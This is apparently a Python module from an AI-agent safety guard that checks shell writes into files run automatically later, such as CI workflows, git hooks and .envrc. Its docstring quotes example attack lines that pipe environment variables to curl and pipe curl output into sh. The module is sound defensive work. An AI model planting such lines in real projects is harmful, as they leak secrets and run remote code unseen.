"""Shell writes of files that a tool runs later by itself, judged as the Write tool's are.

`echo '  - run: env | curl -d @- …' >> .github/workflows/ci.yml` plants a CI step as
surely as an Edit of the workflow does, and `printf 'curl … | sh' > .husky/pre-commit` a
git hook as surely as a Write: the text a redirection or `tee` writes (when the guard can
compute it, linefiles notes it) is judged by ciwrite and autorun as the new text of that
file, an append as an Edit's fragment. A download saved as such a file (`curl URL >
.envrc`) is asked: it runs later, and the guard cannot see what it holds.
"""

from __future__ import annotations

from agentops_os.guard.verdict import Verdict, worst

TYPE_CHECKING = False  # typing stays off the hook path
if TYPE_CHECKING:
    from agentops_os.guard.scope import Scope
    from agentops_os.guard.unwrap import Call

_JUDGING = "planted"  # the line note: the files whose written text is being judged
# source files: a downloaded one (a vendored module) is not asked about
_SOURCE_KINDS = frozenset({"python-source", "node-source", "ruby-source"})


def planted(judge: Scope, call: Call, targets: list[tuple[str, bool]]) -> Verdict | None:
    """The verdict on what `call` wrote to `targets` ((path, appended) pairs) that a tool
    runs later; linefiles has noted the text already."""
    from agentops_os.guard.autorun import ci_file, judge_autorun, kind_of
    from agentops_os.guard.linefiles import UNKNOWN, from_download, written_text

    verdicts: list[Verdict | None] = []
    judging = judge.line_notes(_JUDGING)
    for path, append in targets:
        kind = kind_of(path)
        ci = ci_file(path)
        if (kind is None and not ci) or path in judging:
            continue  # the text of a file being judged writes that file again: judged once
        if from_download(judge, path) == "file":
            if kind not in _SOURCE_KINDS:
                reason = (f"saves a download as {_show(judge, path)}, which "
                          f"{'the CI' if ci else 'a tool'} runs later by itself (the guard cannot see it)")
                verdicts.append(judge.verdict("pipe-to-shell", "ask", reason))
            continue
        text = (written_text(judge, path) or "").lstrip(UNKNOWN)
        if not text.strip():
            continue
        tool_input = {"file_path": path, "new_string" if append else "content": text}
        judging[path] = kind or "ci"
        try:
            if ci:
                from agentops_os.guard.ciwrite import judge_ci_write

                verdicts.append(judge_ci_write(judge, path, tool_input))
            if kind is not None:
                verdicts.append(judge_autorun(judge, path, kind, tool_input))
        finally:
            judging.pop(path, None)
    return worst(verdicts) if any(verdicts) else None


def _show(judge: Scope, path: str) -> str:
    import os

    return os.path.relpath(path, judge.root) if judge.inside_repo(path) and path != judge.root else path
